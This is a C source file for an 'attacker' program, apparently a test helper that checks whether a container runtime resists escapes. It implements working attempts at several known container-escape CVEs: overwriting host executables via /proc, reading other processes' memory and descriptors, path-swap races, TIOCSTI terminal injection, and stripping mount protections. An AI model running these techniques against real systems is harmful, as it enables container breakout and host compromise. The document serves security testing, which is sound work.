/*
 * attacker: what a hostile program in a container tries. It says on its standard output how far it came, in one line of
 * `name=number`, when it is asked to end (SIGTERM) or its turns are over.
 *
 *   attacker exe [--remount]   writes to the executables of the processes in /proc, other than its own (CVE-2019-5736); with
 *                              --remount it first takes the read-only flag off the mount that they lie on
 *   attacker spy               opens descriptors, memory and environment of processes that it did not start (CVE-2016-9962), and
 *                              takes descriptors as a debugger would
 *   attacker through FILE      looks for a file of the host's through the roots of processes, as one who may trace them (CAP_SYS_PTRACE)
 *   attacker kill              kills the runtime's processes as they enter
 *   attacker swap ONE OTHER    exchanges two paths for as long as it runs (CVE-2021-30465)
 *   attacker enter PID         enters a container as a runtime without any protection would, and runs itself there (for comparison)
 *   attacker confined LINE...  no attack: ends with 77 if its /proc/self/status lacks one of the lines, or if it has what the
 *                              containers of the sweeps are not to have, with 0 if all is as it should be, with 1 if it cannot tell
 *   attacker keyring           tells the session keyring that it has
 *   attacker unlock MOUNT...   takes back read-only, nosuid, nodev and noexec of mounts, and the mounts themselves; a line each
 *   attacker type              puts letters into the terminal's input (TIOCSTI, CVE-2017-5226)
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <sys/statfs.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#ifndef SYS_mount_setattr
#define SYS_mount_setattr 442
#endif
/* How often a file that is being executed (ETXTBSY) is asked for again. */
#define PATIENCE 20000
/* How long a process lingers that is to be attacked. */
#define LINGER_MICROSECONDS 20000

/* docker's fourteen, as a mask. */
#define DEFAULT_CAPABILITIES 0xa80425fbULL

static volatile sig_atomic_t over;
static void stop(int signal) { (void)signal, over = 1; }

static long seen, opened, readonly, remounted, turns;

static int is_pid(const char *name) { return *name >= '1' && *name <= '9'; }

/*
 * Overwrites what a descriptor stands for, if that may be written to. With O_TRUNC the kernel looks at the mount first, so that
 * EROFS is seen even while the file is being executed.
 */
static void write_to(int fd) {
  char path[64];
  snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
  for (int tries = 0; tries < PATIENCE && !over; tries++) {
    int writable = open(path, O_WRONLY | O_TRUNC | O_CLOEXEC);
    if (writable >= 0) {
      opened += write(writable, "#", 1) == 1;
      close(writable);
      return;
    }
    readonly += errno == EROFS;
    if (errno != ETXTBSY) return;
  }
}

static void attack_executable(const char *pid, int remount) {
  static ino_t own;
  struct stat status;
  if (own == 0 && stat("/proc/self/exe", &status) == 0) own = status.st_ino;
  char path[64];
  snprintf(path, sizeof path, "/proc/%s/exe", pid);
  int fd = open(path, O_PATH | O_CLOEXEC);
  if (fd < 0) return;
  if (fstat(fd, &status) == 0 && status.st_ino != own) {
    seen++;
    struct { unsigned long long set, clear, propagation, userns; } attributes = {.clear = 1 /* MOUNT_ATTR_RDONLY */};
    if (remount) remounted += 0 == syscall(SYS_mount_setattr, fd, "", AT_EMPTY_PATH, &attributes, sizeof attributes);
    /* Nobody may write to what is being executed. */
    kill(atoi(pid), SIGKILL);
    write_to(fd);
  }
  close(fd);
}

/* Whether a process is one of ours that has not become its program yet: that has another name. */
static int is_ours(const char *pid) {
  char path[64], name[32] = "";
  snprintf(path, sizeof path, "/proc/%s/comm", pid);
  int fd = open(path, O_RDONLY | O_CLOEXEC);
  if (fd < 0) return 0;
  ssize_t length = read(fd, name, sizeof name - 1);
  close(fd);
  return length >= 11 && strncmp(name, "mycontainer", 11) == 0;
}

/* Counts what can be opened of a process, as long as it is still ours. */
static void try_open(const char *pid, const char *file, int flags) {
  char path[PATH_MAX];
  snprintf(path, sizeof path, "/proc/%s/%s", pid, file);
  int fd = open(path, flags | O_CLOEXEC);
  if (fd < 0) return;
  opened += is_ours(pid);
  close(fd);
}

/* What a tracer may do (ptrace(2), PTRACE_MODE_ATTACH_REALCREDS), without becoming one. */
static void try_take(const char *pid) {
  int pidfd = syscall(SYS_pidfd_open, atoi(pid), 0);
  if (pidfd < 0) return;
  for (int number = 3; number < 10; number++) {
    int fd = syscall(SYS_pidfd_getfd, pidfd, number, 0);
    if (fd < 0) continue;
    opened += is_ours(pid);
    close(fd);
  }
  close(pidfd);
}

static void kill_it(const char *pid, int how) {
  (void)how;
  if (is_ours(pid)) seen += kill(atoi(pid), SIGKILL) == 0;
}

static void spy_on(const char *pid) {
  if (!is_ours(pid)) return;
  seen++;
  try_take(pid);
  try_open(pid, "mem", O_RDWR);
  try_open(pid, "environ", O_RDONLY);
  try_open(pid, "root", O_RDONLY);
  try_open(pid, "cwd", O_RDONLY);
  /* The first three are the program's. */
  for (int number = 3; number < 16; number++) {
    char file[16];
    snprintf(file, sizeof file, "fd/%d", number);
    try_open(pid, file, O_PATH);
  }
}

/* The host's file that is looked for. */
static const char *wanted;

static void look_through(const char *pid, int how) {
  (void)how;
  char path[PATH_MAX];
  snprintf(path, sizeof path, "/proc/%s/root", pid);
  int root = open(path, O_PATH | O_CLOEXEC);
  if (root < 0) return;
  seen += is_ours(pid);
  opened += faccessat(root, wanted + 1, F_OK, 0) == 0;
  close(root);
}

static int enter(const char *pid) {
  static const char *const kinds[] = {"pid", "mnt"};
  int fds[2];
  for (int i = 0; i < 2; i++) {
    char path[64];
    snprintf(path, sizeof path, "/proc/%s/ns/%s", pid, kinds[i]);
    if ((fds[i] = open(path, O_RDONLY | O_CLOEXEC)) < 0) return 1;
  }
  if (setns(fds[0], CLONE_NEWPID) != 0 || setns(fds[1], CLONE_NEWNS) != 0) return 1;
  if (fork() != 0) return wait(NULL) < 0;
  /* As runtimes do: whoever has more capabilities than the attacker is out of its reach. */
  for (int capability = 0; capability < 64; capability++)
    if (!(DEFAULT_CAPABILITIES >> capability & 1)) prctl(PR_CAPBSET_DROP, capability);
  return execl("/proc/self/exe", "attacker", "linger", NULL);
}

static void each_process(void (*attack)(const char *, int), int how) {
  char own[16];
  snprintf(own, sizeof own, "%d", getpid());
  DIR *processes = opendir("/proc");
  for (struct dirent *entry; processes != NULL && (entry = readdir(processes)) != NULL;)
    if (is_pid(entry->d_name) && strcmp(entry->d_name, own) != 0) attack(entry->d_name, how);
  if (processes != NULL) closedir(processes);
}

static void spy(const char *pid, int how) { (void)how, spy_on(pid); }

enum { CANNOT_TELL = 1, UNCONFINED = 77, NOFILE = 100 };

/* What a file begins with; the length is -1 if it cannot be read. */
static ssize_t peek(const char *path, char *buffer, size_t size) {
  int fd = open(path, O_RDONLY | O_CLOEXEC);
  if (fd < 0) return -1;
  ssize_t length = read(fd, buffer, size - 1);
  buffer[length < 0 ? 0 : length] = 0;
  close(fd);
  return length;
}

static int confined(char **lines) {
  static char text[16384];
  if (fcntl(3, F_GETFD) >= 0) return UNCONFINED;
  if (peek("/proc/self/status", text, sizeof text) <= 0) return CANNOT_TELL;
  for (; *lines; lines++)
    if (strstr(text, *lines) == NULL) return fprintf(stderr, "%s is not in: %s", *lines, text), UNCONFINED;
  struct rlimit limit;
  if (getrlimit(RLIMIT_NOFILE, &limit) == 0 && limit.rlim_cur != NOFILE) return UNCONFINED;
  if (peek("/proc/keys", text, sizeof text) > 0) return UNCONFINED;
  if (open("/proc/sys/kernel/shmmni", O_WRONLY | O_CLOEXEC) >= 0) return UNCONFINED;
  if (access("/home", F_OK) == 0 || access("/etc/passwd", F_OK) == 0) return UNCONFINED;
  if (peek("/proc/sys/net/ipv4/ip_default_ttl", text, sizeof text) > 0 && strcmp(text, "77\n") != 0) return UNCONFINED;
  return 0;
}

/* struct mount_attr: include/uapi/linux/mount.h. Its attributes and the flags of statfs(2) have the same bits for these. */
static void unlock(const char *path) {
  static const struct { const char *name; unsigned long bit; } locks[] = {{"ro", 1}, {"nosuid", 2}, {"nodev", 4}, {"noexec", 8}};
  struct statfs status;
  printf("%s:", path);
  if (statfs(path, &status) < 0) printf(" missing");
  else
    for (unsigned i = 0; i < sizeof locks / sizeof *locks; i++) {
      if (!(status.f_flags & locks[i].bit)) continue;
      unsigned long long change[4] = {0, locks[i].bit, 0, 0};
      printf(" %s=%d", locks[i].name, syscall(SYS_mount_setattr, AT_FDCWD, path, 0, change, sizeof change) == 0);
    }
  printf(" remount=%d", mount("", path, "", MS_REMOUNT | MS_BIND, "") == 0);
  printf(" umount=%d\n", umount2(path, MNT_DETACH) == 0);
}

int main(int argc, char **argv) {
  const char *mode = argc > 1 ? argv[1] : "";
  struct sigaction action = {.sa_handler = stop};
  sigaction(SIGTERM, &action, NULL);
  if (strcmp(mode, "confined") == 0) return confined(argv + 2);
  if (strcmp(mode, "enter") == 0) return enter(argc > 2 ? argv[2] : "");
  if (strcmp(mode, "linger") == 0) return prctl(PR_SET_NAME, "mycontainer") | usleep(LINGER_MICROSECONDS);
  if (strcmp(mode, "keyring") == 0) {
    printf("keyring=%ld\n", syscall(SYS_keyctl, 0 /* KEYCTL_GET_KEYRING_ID */, -3 /* KEY_SPEC_SESSION_KEYRING */, 0));
    return 0;
  }
  if (strcmp(mode, "unlock") == 0) {
    for (char **path = argv + 2; path < argv + argc; path++) unlock(*path);
    return 0;
  }
  if (strcmp(mode, "type") == 0) {
    for (const char *letter = "typed\n"; *letter; letter++) opened += ioctl(0, TIOCSTI, letter) == 0;
    printf("opened=%ld errno=%d\n", opened, errno);
    return 0;
  }
  printf("ready\n");
  fflush(stdout);
  for (; !over; turns++) {
    if (strcmp(mode, "exe") == 0) each_process(attack_executable, argc > 2);
    else if (strcmp(mode, "spy") == 0) each_process(spy, 0);
    else if (strcmp(mode, "through") == 0 && argc > 2) wanted = argv[2], each_process(look_through, 0);
    else if (strcmp(mode, "kill") == 0) each_process(kill_it, 0);
    else if (strcmp(mode, "swap") == 0 && argc > 3)
      seen += syscall(SYS_renameat2, AT_FDCWD, argv[2], AT_FDCWD, argv[3], 2 /* RENAME_EXCHANGE */) == 0;
    else return 2;
  }
  printf("seen=%ld opened=%ld readonly=%ld remounted=%ld turns=%ld\n", seen, opened, readonly, remounted, turns);
  return 0;
}
